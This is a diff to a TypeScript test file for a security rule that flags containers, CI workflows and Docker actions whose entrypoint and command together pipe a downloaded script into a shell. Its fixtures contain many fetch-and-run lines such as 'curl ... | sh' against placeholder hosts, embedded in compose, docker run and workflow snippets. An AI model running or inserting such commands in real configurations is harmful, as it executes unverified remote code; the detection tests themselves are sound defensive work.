@@ -16,6 +16,52 @@ describe('command-downloads-code', () => {
     expectMarks(rule, 'compose.yaml', service(options));
   });
 
+  const CURL = '«curl -fsSL https://get.example.com/a.sh | sh»';
+  const WORKFLOW = '.github/workflows/ci.yml';
+  const step = (inputs: string) =>
+    `jobs:\n  a:\n    runs-on: ubuntu-latest\n    env: { OWN: 'sh -c "curl https://a.example.com | sh"' }\n    steps:\n      - uses: docker://alpine:3.22\n        with: ${inputs}\n`;
+  const action = (keys: string) => `runs:\n  using: docker\n  image: docker://alpine:3.22\n  ${keys}\n`;
+  it.each([
+    ['compose.yaml', service(`entrypoint: sh\ncommand: ["-c", "${CURL}"]`)],
+    ['compose.yaml', service(`entrypoint: [tini, --, /bin/bash]\ncommand: -euc "${CURL}"`)],
+    ['compose.yaml', service(`entrypoint: ["sh", "-c"]\ncommand: ["${CURL}"]`)],
+    ['run.sh', `docker run --entrypoint sh alpine:3.22 -c '${CURL}'\n`],
+    ['run.sh', `podman run --entrypoint '["bash", "-c"]' alpine:3.22 "${CURL}"\n`],
+    ['run.sh', `podman run --entrypoint '["sh", "-c", "${CURL}"]' alpine:3.22\n`],
+    [WORKFLOW, step(`{ entrypoint: /bin/sh, args: '-c "${CURL}"' }`)],
+    [WORKFLOW, step(`{ args: 'bash -c "${CURL}"' }`)],
+    [
+      WORKFLOW,
+      `jobs:\n  a:\n    runs-on: ubuntu-latest\n    services:\n      b:\n        image: redis:8\n        entrypoint: sh\n        command: -c "${CURL}"\n`,
+    ],
+    ['action.yml', action(`args: [sh, -c, "${CURL}"]`)],
+    ['action.yml', action(`entrypoint: /bin/bash\n  args:\n    - -c\n    - ${CURL}`)],
+    ['action.yml', action(`pre-entrypoint: sh -c "${CURL}"`)],
+    ['action.yml', action(`entrypoint: /a.sh\n  post-entrypoint: sh -c "${CURL}"`)],
+    ['action.yml', `runs:\n  using: Docker\n  image: Dockerfile\n  args: [sh, -c, "${CURL}"]\n`],
+    [
+      'action.yml',
+      `runs:\n  using: composite\n  steps:\n    - uses: DOCKER://alpine:3.22\n      with: { args: 'sh -c "${CURL}"' }\n`,
+    ],
+  ])('reads entrypoint and command of %s together: %s', (path, text) => expectMarks(rule, path, text));
+
+  it.each([
+    ['compose.yaml', service('entrypoint: echo\ncommand: ["-c", "curl https://a.example.com | sh"]')],
+    ['run.sh', `docker run --entrypoint sh alpine:3.22 /x -c 'curl https://a.example.com | sh'\n`],
+    [WORKFLOW, step(`{ entrypoint: /bin/sh, args: '-c "make test"' }`)],
+    [WORKFLOW, step(`{ entrypoint: /bin/sh, args: '\${{ inputs.a }}' }`)],
+    [WORKFLOW, step(`{ args: 'echo curl | sh' }`).replace('docker://alpine:3.22', 'acme/tool@v1')],
+    ['action.yml', action('args: ["curl https://a.example.com | sh"]')],
+    ['action.yml', 'runs:\n  using: node24\n  image: x\n  args: [sh, -c, "curl https://a.example.com | sh"]\n'],
+  ])('accepts an entrypoint and a command of %s: %s', (path, text) => expectMarks(rule, path, text));
+
+  it('evaluates the variables of the workflow, the job and the step', () => {
+    const { findings } = checkText(rule, WORKFLOW, step(`{ args: '\${{ env.OWN }}' }`));
+    expect(findings.map(({ message }) => message)).toEqual([
+      'Container "alpine:3.22" runs what curl fetches from a.example.com with sh at each start, and nothing checks what that is.',
+    ]);
+  });
+
   it.each([
     ['exact versions', 'command: sh -c "pip install flask==3.1.2 && exec flask run"'],
     ['a file of requirements', 'command: sh -c "pip install -r requirements.txt && exec flask run"'],
